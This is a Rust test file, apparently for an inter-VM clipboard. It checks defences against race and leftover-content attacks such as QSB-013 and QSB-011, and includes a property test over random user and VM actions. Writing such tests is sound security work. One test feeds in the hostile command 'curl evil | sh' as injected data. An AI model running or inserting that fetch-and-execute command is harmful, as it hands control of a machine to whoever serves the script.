//! The attacks that the clipboard between VMs is made for, and any sequence of what users and VMs may do.

use proptest::prelude::*;

use super::*;

const T: fn(u64) -> Duration = Duration::from_millis;

fn vm(name: &str) -> Origin {
    Origin::Vm(name.parse().unwrap())
}

fn plain() -> Vec<String> {
    vec![String::from("text/plain")]
}

fn allowing() -> Rules {
    let rule = Rule { action: Action::Allow, ..Rule::default() };
    Rules { otherwise: rule, ..Rules::default() }
}

fn text(content: &Content) -> String {
    content.iter().map(|part| String::from_utf8_lossy(part.bytes())).collect()
}

/// A clipboard, the rules, and a clock.
struct Desk {
    clipboard: Clipboard,
    rules: Rules,
    now: Duration,
}

impl Desk {
    fn new(rules: Rules) -> Self {
        Self { clipboard: Clipboard::default(), rules, now: T(1000) }
    }

    fn pass(&mut self, millis: u64) {
        self.now += T(millis);
        self.clipboard.tick(self.now);
    }

    /// The keyboard goes to a VM, and stays for long enough.
    fn focus(&mut self, name: &str) {
        self.clipboard.follow(self.now, Some(&vm(name)));
        self.pass(500);
    }

    fn begin(&mut self, name: &str) -> Result<(Number, Kind), Refusal> {
        let origins = ["vault", "web", "mail"].map(vm);
        let wanted = self.rules.wanted(&vm(name), origins.iter());
        self.clipboard.copy(self.now, &vm(name), wanted, Some(&plain()))
    }

    /// Copies a text whole.
    fn copy(&mut self, name: &str, text: &str) {
        self.focus(name);
        let (id, _) = self.begin(name).unwrap();
        assert!(self.clipboard.receive(id, text.as_bytes()));
        assert_eq!(self.clipboard.end_part(self.now, id), Progress::Whole(None));
    }

    fn paste(&mut self, name: &str) -> Result<Paste, Refusal> {
        self.clipboard.paste(self.now, &vm(name), &self.rules)
    }

    fn pasted(&mut self, name: &str) -> Result<String, Refusal> {
        match self.paste(name)? {
            Paste::Given(grant) => {
                assert_eq!(grant.to, vm(name));
                Ok(text(&grant.content))
            }
            Paste::Ask(question) => panic!("asked: {question:?}"),
        }
    }

    fn asked(&mut self, name: &str) -> Question {
        match self.paste(name) {
            Ok(Paste::Ask(question)) => question,
            other => panic!("not asked: {other:?}"),
        }
    }

    fn answer(&mut self, question: &Question, allowed: bool) -> Option<String> {
        let grant = self.clipboard.answer(self.now, question.id, allowed, &self.rules)?;
        assert_eq!(grant.to, question.to);
        Some(text(&grant.content))
    }

    fn last(&self) -> What {
        self.clipboard.journal().last().unwrap().what
    }
}

/// QSB-013, the first half. The VM `web` is asked for its selection and does not answer. The user gives up, copies a password in
/// `vault`, and goes on to paste it into `mail`. Qubes took the late answer of `web` for the content to paste: the VM chose what the
/// user pasted.
#[test]
fn an_answer_that_comes_after_another_vms_copy_puts_nothing_into_its_place() {
    let mut desk = Desk::new(allowing());
    desk.focus("web");
    let (late, _) = desk.begin("web").unwrap();
    desk.copy("vault", "the password");
    assert!(!desk.clipboard.receive(late, b"curl evil | sh\n"), "nobody listens any more");
    assert_eq!(desk.clipboard.end_part(desk.now, late), Progress::Over);
    desk.focus("mail");
    assert_eq!(desk.pasted("mail").unwrap(), "the password");
    // Late, and later than anything else.
    assert!(!desk.clipboard.receive(late, b"curl evil | sh\n"));
    assert_eq!(desk.clipboard.end_part(desk.now, late), Progress::Over);
    assert_eq!(desk.pasted("mail"), Err(Refusal::Empty));
}

/// The same, and the user stays in the VM and presses the chord again: the answer to the first is none to the second.
#[test]
fn an_answer_to_an_earlier_chord_is_no_answer_to_a_later_one() {
    let mut desk = Desk::new(allowing());
    desk.focus("web");
    let (first, _) = desk.begin("web").unwrap();
    let (second, _) = desk.begin("web").unwrap();
    assert_ne!(first, second);
    assert!(!desk.clipboard.receive(first, b"first"));
    assert!(desk.clipboard.receive(second, b"second"));
    assert_eq!(desk.clipboard.end_part(desk.now, first), Progress::Over);
    assert_eq!(desk.clipboard.end_part(desk.now, second), Progress::Whole(None));
    desk.focus("mail");
    assert_eq!(desk.pasted("mail").unwrap(), "second");
}

/// QSB-013, the other half. The user pastes into `web`, which stalls, so that Qubes ran the chord when `web` went on: by then the user
/// had copied in `vault`, and that is what `web` got. Here a chord does what it can do at once, and is over.
#[test]
fn a_paste_that_could_do_nothing_is_not_done_later_with_what_is_copied_then() {
    let mut desk = Desk::new(allowing());
    desk.focus("web");
    assert_eq!(desk.pasted("web"), Err(Refusal::Empty));
    desk.focus("mail");
    desk.begin("mail").unwrap();
    desk.clipboard.follow(desk.now, Some(&vm("mail")));
    assert_eq!(desk.pasted("web"), Err(Refusal::Unfinished));
    desk.copy("vault", "the password");
    desk.focus("web");
    // Nothing was given to it by itself: the content is still there, and nobody but the user's next chord moves it.
    let summary = desk.clipboard.summary();
    assert!(matches!(summary, Summary::Full { from, .. } if *from == vm("vault")), "{summary:?}");
}

/// QSB-011: the shorter content was written over the longer one, which was not cut off, and a third VM read the end of it.
#[test]
fn nothing_of_a_long_content_is_behind_a_short_one() {
    let mut desk = Desk::new(allowing());
    desk.copy("vault", &"secret ".repeat(5000));
    desk.copy("mail", "hi");
    desk.focus("web");
    assert_eq!(desk.pasted("web").unwrap(), "hi");
    // And of one that was never whole.
    desk.focus("vault");
    let (id, _) = desk.begin("vault").unwrap();
    assert!(desk.clipboard.receive(id, &[b's'; 60_000]));
    desk.copy("mail", "ho");
    desk.focus("web");
    assert_eq!(desk.pasted("web").unwrap(), "ho");
}

#[test]
fn the_keyboard_or_the_selection_that_goes_elsewhere_ends_what_is_being_copied() {
    let mut desk = Desk::new(allowing());
    desk.focus("vault");
    let (id, _) = desk.begin("vault").unwrap();
    desk.clipboard.follow(desk.now, Some(&vm("web")));
    assert!(!desk.clipboard.receive(id, b"x") && !desk.clipboard.is_taking(id));
    assert_eq!(desk.last(), What::Refused(Refusal::Left));
    desk.focus("vault");
    let (id, _) = desk.begin("vault").unwrap();
    desk.clipboard.selection_changed(desk.now, &vm("web"));
    assert!(desk.clipboard.is_taking(id), "that was another VM's");
    desk.clipboard.selection_changed(desk.now, &vm("vault"));
    assert!(!desk.clipboard.is_taking(id));
    assert_eq!(desk.last(), What::Refused(Refusal::Replaced));
}

#[test]
fn what_is_not_given_in_time_is_not_taken() {
    let mut desk = Desk::new(allowing());
    desk.focus("vault");
    let (id, _) = desk.begin("vault").unwrap();
    assert!(desk.clipboard.receive(id, b"half"));
    let due = desk.clipboard.next_change(desk.now).unwrap();
    assert_eq!(due, desk.now + TAKEN_WITHIN);
    desk.now = due;
    assert_eq!(desk.clipboard.end_part(desk.now, id), Progress::Over, "the end comes too late as well");
    assert_eq!(desk.last(), What::Refused(Refusal::Late));
    desk.focus("web");
    assert_eq!(desk.pasted("web"), Err(Refusal::Empty));
}

#[test]
fn more_bytes_than_may_pass_are_not_kept() {
    let mut rules = allowing();
    rules.otherwise.max_bytes = 10;
    let mut desk = Desk::new(rules);
    desk.focus("vault");
    let (id, _) = desk.begin("vault").unwrap();
    assert!(desk.clipboard.receive(id, b"0123456789") && !desk.clipboard.receive(id, b"x"));
    assert_eq!(desk.clipboard.end_part(desk.now, id), Progress::Over);
    assert_eq!(desk.last(), What::Refused(Refusal::TooLarge));
    desk.copy("vault", "0123456789");
}

#[test]
fn the_user_is_asked_with_what_is_pasted_then_and_only_a_yes_gives_it() {
    let mut desk = Desk::new(Rules::default());
    desk.copy("vault", "caf\u{e9}");
    desk.focus("web");
    let question = desk.asked("web");
    assert_eq!((&question.from, &question.to), (&vm("vault"), &vm("web")));
    assert_eq!(content::in_words(&question.parts), "4 characters of text/plain");
    // What the VM copies meanwhile is another content.
    desk.clipboard.selection_changed(desk.now, &vm("vault"));
    assert_eq!(desk.answer(&question, false), None);
    assert_eq!(desk.last(), What::Refused(Refusal::SaidNo));
    assert_eq!(desk.answer(&question, true), None, "it was answered");
    let again = desk.asked("web");
    assert_ne!(again.id, question.id);
    assert_eq!(desk.answer(&question, true), None, "that is another question by now");
    assert_eq!(desk.answer(&again, true).as_deref(), Some("caf\u{e9}"));
    assert_eq!(desk.last(), What::Pasted { asked: true });
    assert_eq!(desk.paste("web").unwrap_err(), Refusal::Empty, "it is given once");
}

#[test]
fn a_question_goes_with_the_keyboard_the_content_and_the_rule_that_it_was_about() {
    let mut desk = Desk::new(Rules::default());
    desk.copy("vault", "x");
    desk.focus("web");
    let question = desk.asked("web");
    desk.focus("mail");
    assert!(!desk.clipboard.awaits(question.id));
    desk.focus("web");
    assert_eq!(desk.answer(&question, true), None, "the keyboard was elsewhere");

    let question = desk.asked("web");
    desk.rules.otherwise.max_bytes = 5;
    assert_eq!(desk.answer(&question, true), None);
    assert_eq!(desk.last(), What::Refused(Refusal::Changed));

    let question = desk.asked("web");
    desk.pass(60_000);
    assert_eq!(desk.answer(&question, true), None);
    assert_eq!(desk.last(), What::Expired);
}

#[test]
fn a_vm_that_has_only_just_got_the_keyboard_is_given_nothing() {
    let mut desk = Desk::new(allowing());
    desk.copy("vault", "x");
    desk.clipboard.follow(desk.now, Some(&vm("web")));
    assert_eq!(desk.pasted("web"), Err(Refusal::Unsettled));
    desk.pass(299);
    assert_eq!(desk.pasted("web"), Err(Refusal::Unsettled));
    desk.pass(1);
    assert_eq!(desk.pasted("mail"), Err(Refusal::Left), "it has not the keyboard");
    assert_eq!(desk.pasted("web").unwrap(), "x");
}

#[test]
fn what_is_pasted_is_gone_unless_the_rule_keeps_it_and_then_until_it_is_old() {
    let mut desk = Desk::new(allowing());
    desk.rules.otherwise.wipe = false;
    desk.rules.otherwise.ttl = T(10_000);
    desk.copy("vault", "x");
    for name in ["web", "mail"] {
        desk.focus(name);
        assert_eq!(desk.pasted(name).unwrap(), "x");
    }
    assert_eq!(desk.pasted("vault"), Err(Refusal::Same));
    desk.pass(10_000);
    assert_eq!(desk.pasted("mail"), Err(Refusal::Empty));
    desk.copy("vault", "y");
    desk.clipboard.empty(desk.now);
    assert_eq!(desk.pasted("mail"), Err(Refusal::Empty));
}

#[test]
fn each_pair_gets_the_kinds_that_its_rule_lets_pass() {
    let mut desk = Desk::new(allowing());
    let html = Rule {
        to: rules::Side::One(vm("mail")),
        action: Action::Allow,
        kinds: vec![Kind::Text, Kind::Html, Kind::Png],
        wipe: false,
        ..Rule::default()
    };
    desk.rules.list.push(html);
    desk.rules.list.push(Rule { to: rules::Side::One(vm("web")), action: Action::Allow, ..Rule::default() });
    desk.focus("vault");
    let origins = ["vault", "web", "mail"].map(vm);
    let wanted = desk.rules.wanted(&vm("vault"), origins.iter());
    let offered = ["text/html", "text/uri-list", "UTF8_STRING"].map(str::to_owned);
    let (id, kind) = desk.clipboard.copy(desk.now, &vm("vault"), wanted, Some(&offered)).unwrap();
    assert_eq!(kind, Kind::Text);
    assert!(desk.clipboard.receive(id, b"b"));
    assert_eq!(desk.clipboard.end_part(desk.now, id), Progress::Next(Kind::Html));
    assert!(desk.clipboard.receive(id, b"<b>b</b>"));
    assert_eq!(desk.clipboard.end_part(desk.now, id), Progress::Whole(None));
    desk.focus("mail");
    assert_eq!(desk.pasted("mail").unwrap(), "b<b>b</b>");
    desk.focus("web");
    assert_eq!(desk.pasted("web").unwrap(), "b");
}

#[test]
fn what_is_dropped_is_asked_about_even_where_the_chord_is_enough_and_is_gone_after_any_answer() {
    for allowed in [true, false] {
        let mut desk = Desk::new(allowing());
        desk.focus("vault");
        let (from, to) = (vm("vault"), vm("web"));
        let (id, _) = desk.clipboard.drop(desk.now, &from, &to, &desk.rules, &plain()).unwrap();
        desk.clipboard.follow(desk.now, Some(&to));
        assert!(desk.clipboard.receive(id, b"dragged"));
        assert_eq!(desk.clipboard.end_part(desk.now, id), Progress::Whole(Some(to.clone())));
        let question = desk.asked("web");
        assert!(question.dropped);
        assert_eq!(desk.answer(&question, allowed).is_some(), allowed);
        assert_eq!(desk.pasted("web"), Err(Refusal::Empty));
    }
}

#[test]
fn the_journal_is_bounded() {
    let mut desk = Desk::new(allowing());
    for _ in 0..200 {
        let _ = desk.paste("web");
    }
    assert_eq!(desk.clipboard.journal().entries().count(), journal::MAX_ENTRIES);
}

/// What the user and VMs do, in any order. VMs are numbers.
#[derive(Clone, Debug)]
enum Deed {
    Focus(usize),
    Copy {
        offers: bool,
    },
    /// Bytes of any transfer that ever was, as late as they may be.
    Bytes {
        transfer: usize,
        count: usize,
    },
    End {
        transfer: usize,
    },
    Select(usize),
    Paste,
    Answer {
        question: usize,
        allowed: bool,
    },
    Pass(u64),
    Empty,
}

/// Mostly the newest of something, counted from 0, and sometimes an older one.
fn which() -> impl Strategy<Value = usize> {
    prop_oneof![5 => Just(0usize), 1 => 1..6usize]
}

fn deed() -> impl Strategy<Value = Deed> {
    prop_oneof![
        3 => (0..3usize).prop_map(Deed::Focus),
        3 => prop::bool::weighted(0.9).prop_map(|offers| Deed::Copy { offers }),
        6 => (which(), 1..40usize).prop_map(|(transfer, count)| Deed::Bytes { transfer, count }),
        6 => which().prop_map(|transfer| Deed::End { transfer }),
        1 => (0..3usize).prop_map(Deed::Select),
        4 => Just(Deed::Paste),
        4 => (which(), prop::bool::weighted(0.8)).prop_map(|(question, allowed)| Deed::Answer { question, allowed }),
        4 => prop_oneof![3 => Just(400u64), 1 => Just(1), 1 => Just(299), 1 => Just(3000), 1 => Just(70_000)]
            .prop_map(Deed::Pass),
        1 => Just(Deed::Empty),
    ]
}

/// Any deeds, and now and then those that a person does one after the other.
fn deeds() -> impl Strategy<Value = Vec<Deed>> {
    let copy = Just(vec![
        Deed::Copy { offers: true },
        Deed::Bytes { transfer: 0, count: 7 },
        Deed::End { transfer: 0 },
    ]);
    let paste = (0..3usize).prop_map(|to| vec![Deed::Focus(to), Deed::Pass(400), Deed::Paste]);
    let answer = Just(vec![Deed::Answer { question: 0, allowed: true }]);
    let some = prop_oneof![8 => deed().prop_map(|deed| vec![deed]), 3 => copy, 3 => paste, 1 => answer];
    prop::collection::vec(some, 1..40).prop_map(|some| some.concat())
}

/// What is known of a transfer beside the clipboard: its VM, its chord's time, its bytes as long as it was in time.
struct Known {
    id: Number,
    vm: usize,
    at: Duration,
    bytes: Vec<u8>,
    /// It is over, whole or not.
    whole: Option<bool>,
}

const NAMES: [&str; 3] = ["vault", "web", "mail"];

/// From `vault` nothing goes to `web`; to `mail` the user is asked; all others are allowed.
fn three_rules() -> Rules {
    let rule = |from: &str, to: &str, action| Rule {
        from: rules::Side::One(vm(from)),
        to: rules::Side::One(vm(to)),
        action,
        max_bytes: 100,
        ..Rule::default()
    };
    let mut rules = allowing();
    rules.otherwise.max_bytes = 100;
    rules.list = vec![rule("vault", "web", Action::Deny), rule("vault", "mail", Action::Ask)];
    rules
}

/// A run of deeds, beside which the test keeps its own books.
struct Run {
    desk: Desk,
    focus: (usize, Duration),
    known: Vec<Known>,
    asked: Vec<Question>,
    given: Vec<Number>,
}

impl Run {
    fn new() -> Self {
        let mut desk = Desk::new(three_rules());
        desk.clipboard.follow(desk.now, Some(&vm(NAMES[0])));
        Self { focus: (0, desk.now), desk, known: Vec::new(), asked: Vec::new(), given: Vec::new() }
    }

    /// The transfer that the last chord began, whatever became of it.
    fn last(&self) -> &Known {
        self.known.last().expect("a transfer")
    }

    fn take(&mut self, grant: &Grant, question: Option<&Question>) -> Result<(), TestCaseError> {
        let last = self.last();
        prop_assert_eq!(last.whole, Some(true), "it was taken whole, in time");
        prop_assert_eq!(text(&grant.content).into_bytes(), last.bytes.clone(), "exactly its bytes");
        prop_assert!(self.desk.now < last.at + T(60_000) + TAKEN_WITHIN, "and it is not old");
        let (to, since) = self.focus;
        prop_assert_eq!(&grant.to, &vm(NAMES[to]), "it goes where the keyboard is");
        prop_assert!(last.vm != to && !(last.vm == 0 && to == 1), "and may go there");
        prop_assert!(self.desk.now >= since + T(300), "and the keyboard did not just come there");
        let asked = last.vm == 0 && to == 2;
        prop_assert_eq!(asked, question.is_some(), "the user was asked where the rule says so");
        if let Some(question) = question {
            prop_assert_eq!((&question.from, &question.to), (&vm(NAMES[last.vm]), &grant.to));
            prop_assert_eq!(&question.parts, &described(&grant.content));
        }
        prop_assert!(!self.given.contains(&last.id), "it is given once");
        self.given.push(last.id);
        Ok(())
    }

    fn copy(&mut self, offers: bool) {
        let from = vm(NAMES[self.focus.0]);
        let offered = plain();
        let wanted = self.desk.rules.wanted(&from, NAMES.map(vm).iter());
        let (now, vm) = (self.desk.now, self.focus.0);
        let begun = self.desk.clipboard.copy(now, &from, wanted, offers.then_some(&offered[..]));
        // A chord that could not begin has ended the one before, too.
        let (id, whole) = begun.map_or((Number(0), Some(false)), |(id, _)| (id, None));
        self.known.push(Known { id, vm, at: now, bytes: Vec::new(), whole });
    }

    /// Whether a transfer is still being taken, by the test's own books.
    fn is_live(&self, index: usize) -> bool {
        let known = &self.known[index];
        index + 1 == self.known.len() && known.whole.is_none() && self.desk.now < known.at + TAKEN_WITHIN
    }

    fn end_last(&mut self) {
        if let Some(last) = self.known.last_mut() {
            last.whole.get_or_insert(false);
        }
    }

    fn step(&mut self, deed: &Deed) -> Result<(), TestCaseError> {
        let now = self.desk.now;
        match *deed {
            Deed::Focus(to) if to != self.focus.0 => {
                self.focus = (to, now);
                self.end_last();
                self.desk.clipboard.follow(now, Some(&vm(NAMES[to])));
            }
            Deed::Focus(_) => {}
            Deed::Copy { offers } => self.copy(offers),
            Deed::Bytes { transfer, count } => {
                let Some(index) = self.known.len().checked_sub(1 + transfer) else { return Ok(()) };
                let live = self.is_live(index);
                let known = &mut self.known[index];
                // Which transfer they are of can be seen in the bytes.
                let bytes = vec![b'a' + u8::try_from(index % 26).unwrap(); count];
                let fits = known.bytes.len() + count <= 100;
                let taken = self.desk.clipboard.receive(known.id, &bytes);
                prop_assert_eq!(taken, live && fits);
                if taken {
                    known.bytes.extend(bytes);
                } else if live {
                    known.bytes.clear();
                    known.whole = Some(false);
                    self.desk.clipboard.end_part(now, known.id);
                }
            }
            Deed::End { transfer } => {
                let Some(index) = self.known.len().checked_sub(1 + transfer) else { return Ok(()) };
                let live = self.is_live(index);
                let known = &mut self.known[index];
                let progress = self.desk.clipboard.end_part(now, known.id);
                let whole = live && !known.bytes.is_empty();
                prop_assert_eq!(progress == Progress::Whole(None), whole);
                known.whole.get_or_insert(whole);
            }
            Deed::Select(of) => {
                self.desk.clipboard.selection_changed(now, &vm(NAMES[of]));
                if of == self.focus.0 {
                    self.end_last();
                }
            }
            Deed::Paste => match self.desk.paste(NAMES[self.focus.0]) {
                Ok(Paste::Given(grant)) => self.take(&grant, None)?,
                Ok(Paste::Ask(question)) => self.asked.push(question),
                Err(_) => {}
            },
            Deed::Answer { question, allowed } => {
                let Some(index) = self.asked.len().checked_sub(1 + question) else { return Ok(()) };
                let question = self.asked[index].clone();
                if let Some(grant) = self.desk.clipboard.answer(now, question.id, allowed, &self.desk.rules) {
                    prop_assert!(allowed);
                    self.take(&grant, Some(&question))?;
                }
            }
            Deed::Pass(millis) => self.desk.pass(millis),
            Deed::Empty => {
                self.desk.clipboard.empty(now);
                self.end_last();
            }
        }
        Ok(())
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1000))]

    /// Whatever users and VMs do in whatever order: what is given was taken by the last chord, whole and in time, and by the rules.
    #[test]
    fn nothing_is_given_but_what_the_last_chord_took(deeds in deeds()) {
        let mut run = Run::new();
        for deed in &deeds {
            run.step(deed)?;
        }
    }
}

/// Sequences of the same deeds do come to pastes and questions, so that what the property says is of something.
#[test]
fn the_sequences_of_the_property_reach_pastes_with_and_without_a_question() {
    use proptest::strategy::ValueTree as _;
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let (mut given, mut answered) = (0, 0);
    for _ in 0..500 {
        let deeds = deeds().new_tree(&mut runner).unwrap().current();
        let mut run = Run::new();
        deeds.iter().for_each(|deed| run.step(deed).unwrap());
        given += run.given.len();
        answered +=
            run.desk.clipboard.journal().entries().filter(|e| e.what == What::Pasted { asked: true }).count();
    }
    assert!(given > 50 && answered > 10, "{given} {answered}");
}
